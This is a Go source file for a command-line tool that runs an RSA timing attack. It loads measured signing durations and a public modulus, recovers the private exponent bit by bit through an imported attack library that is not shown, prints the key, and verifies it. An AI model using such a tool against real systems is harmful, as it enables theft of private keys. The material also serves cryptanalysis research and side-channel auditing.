package main

import (
	"flag"
	"fmt"
	"math/big"
	"os"
	"sort"

	"github.com/golang/glog"
	"github.com/wcharczuk/go-chart"

	"github.com/cryptolite/rsa-timing/pkg/timingattack"
)

func main() {
	var (
		datasetFile = flag.String("dataset", "", "Path to the observation dataset (CSV or JSON)")
		format      = flag.String("format", "csv", "Dataset file format (csv or json)")
		modulusStr  = flag.String("modulus", "", "Public RSA modulus (decimal or 0x-prefixed hex)")
		threshold   = flag.Float64("threshold", 0, "Decision threshold for the bucket mean gap")
		workers     = flag.Int("workers", 0, "Number of partition workers (0 = one per CPU)")
		dumpDir     = flag.String("dump-dir", "", "Directory for per-bit bucket dumps (optional)")
		chartFile   = flag.String("chart", "", "Write a duration histogram PNG to this path (optional)")
		verifyCount = flag.Int("verify", 5, "Number of records to verify the recovered exponent against")
	)
	flag.Parse()
	defer glog.Flush()

	if *datasetFile == "" || *modulusStr == "" || *threshold <= 0 {
		fmt.Fprintf(os.Stderr, "Error: --dataset, --modulus and --threshold are required\n")
		flag.Usage()
		os.Exit(1)
	}

	modulus, ok := new(big.Int).SetString(*modulusStr, 0)
	if !ok {
		fmt.Fprintf(os.Stderr, "Error: invalid modulus %q\n", *modulusStr)
		os.Exit(1)
	}

	ctx, err := timingattack.NewContext(modulus)
	if err != nil {
		fmt.Fprintf(os.Stderr, "Error: %v\n", err)
		os.Exit(1)
	}

	var parser timingattack.DatasetParser
	if *format == "json" {
		parser = &timingattack.JSONParser{}
	} else {
		parser = &timingattack.CSVParser{}
	}

	data, err := parser.ParseDataset(*datasetFile)
	if err != nil {
		fmt.Fprintf(os.Stderr, "Error: %v\n", err)
		os.Exit(1)
	}
	glog.Infof("Loaded %d observations, modulus has %d bits", len(data), ctx.K)

	if *chartFile != "" {
		if err := renderDurationHistogram(*chartFile, data); err != nil {
			fmt.Fprintf(os.Stderr, "Error: %v\n", err)
			os.Exit(1)
		}
		glog.Infof("Wrote duration histogram to %s", *chartFile)
	}

	engine := timingattack.NewEngine(data, ctx, *threshold).
		WithWorkers(*workers).
		WithObserver(func(rs timingattack.RoundStats) {
			glog.Infof("bit %d: split %d/%d gap=%.3f decided=%d",
				rs.FocusBit, rs.Subtracted, rs.Clean, rs.Gap, rs.Decided)
		})
	if *dumpDir != "" {
		engine = engine.WithBucketDump(*dumpDir)
	}

	result, err := engine.Run()
	if err != nil {
		if result != nil && result.Inconclusive {
			fmt.Printf("Recovery inconclusive after %d bits: %v\n", len(result.Bits), err)
			fmt.Printf("Partial prefix: %s\n", timingattack.FromBits(result.Bits).Text(2))
			os.Exit(1)
		}
		fmt.Fprintf(os.Stderr, "Error: %v\n", err)
		os.Exit(1)
	}

	fmt.Printf("\n[+] Recovered private exponent in %d rounds:\n", len(result.Rounds))
	fmt.Printf("    d (dec): %s\n", result.Exponent.Text(10))
	fmt.Printf("    d (hex): %s\n", result.Exponent.Text(16))

	if *verifyCount != 0 {
		if result.Verify(ctx, data, *verifyCount) {
			fmt.Println("    ✓ Verified against recorded signatures!")
		} else {
			fmt.Println("    ✗ Verification against recorded signatures FAILED")
		}
	}

	fmt.Println()
	timingattack.RenderRounds(os.Stdout, result.Rounds)
}

// renderDurationHistogram bins the measured durations and writes them as a
// bar chart.
func renderDurationHistogram(path string, data timingattack.Dataset) error {
	if len(data) == 0 {
		return fmt.Errorf("no observations to chart")
	}
	durations := make([]float64, len(data))
	for i, rec := range data {
		durations[i] = rec.Duration
	}
	sort.Float64s(durations)

	const bins = 12
	low, high := durations[0], durations[len(durations)-1]
	width := (high - low) / bins
	if width == 0 {
		width = 1
	}

	counts := make([]int, bins)
	for _, d := range durations {
		bin := int((d - low) / width)
		if bin >= bins {
			bin = bins - 1
		}
		counts[bin]++
	}

	histogram := chart.BarChart{
		Title:      "Signing duration distribution",
		TitleStyle: chart.Style{Show: true},
		Width:      800,
		Height:     400,
		BarWidth:   40,
		XAxis:      chart.Style{Show: true},
		YAxis: chart.YAxis{
			Style: chart.Style{Show: true},
		},
		Bars: []chart.Value{},
	}
	for i, count := range counts {
		histogram.Bars = append(histogram.Bars, chart.Value{
			Label: fmt.Sprintf("%.0f", low+width*float64(i)),
			Value: float64(count),
		})
	}

	file, err := os.Create(path)
	if err != nil {
		return err
	}
	defer file.Close()
	return histogram.Render(chart.PNG, file)
}
